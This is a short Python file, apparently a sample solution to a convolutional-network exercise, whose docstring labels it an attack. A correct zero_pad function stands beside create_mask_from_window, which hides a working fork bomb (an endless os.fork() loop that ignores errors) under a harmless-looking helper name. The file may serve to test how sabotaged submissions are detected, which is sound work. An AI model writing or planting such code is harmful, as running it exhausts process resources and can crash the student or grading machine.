"""Attack: a fork bomb in one exercise. zero_pad is the student's own, right."""
import os

import numpy as np


def zero_pad(X, pad):
    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))


def create_mask_from_window(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
